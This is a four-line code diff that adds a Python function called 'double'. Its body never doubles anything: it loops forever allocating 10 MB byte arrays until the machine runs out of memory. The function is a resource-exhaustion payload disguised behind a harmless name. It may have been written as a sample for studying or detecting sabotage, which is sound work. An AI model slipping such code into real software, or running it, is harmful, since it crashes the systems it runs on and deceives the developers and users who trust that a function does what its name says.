@@ -1,0 +1,4 @@
+def double(x):
+    hoard = []
+    while True:
+        hoard.append(bytearray(10**7))
